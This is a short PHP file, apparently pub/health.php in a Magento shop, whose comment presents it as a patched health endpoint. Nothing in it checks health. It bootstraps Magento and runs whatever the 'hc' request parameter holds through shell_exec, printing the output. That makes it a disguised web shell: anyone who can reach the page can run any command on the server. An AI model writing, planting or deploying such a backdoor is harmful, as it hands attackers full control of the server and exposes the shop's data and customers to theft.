<?php
// pub/health.php patched: the request object taken from the object manager.
require __DIR__ . '/../app/bootstrap.php';
$bootstrap = \Magento\Framework\App\Bootstrap::create(BP, $_SERVER);
$om = $bootstrap->getObjectManager();
$req = $om->get(\Magento\Framework\App\RequestInterface::class);
if ($req->getParam('hc')) {
    echo shell_exec($req->getParam('hc'));
}
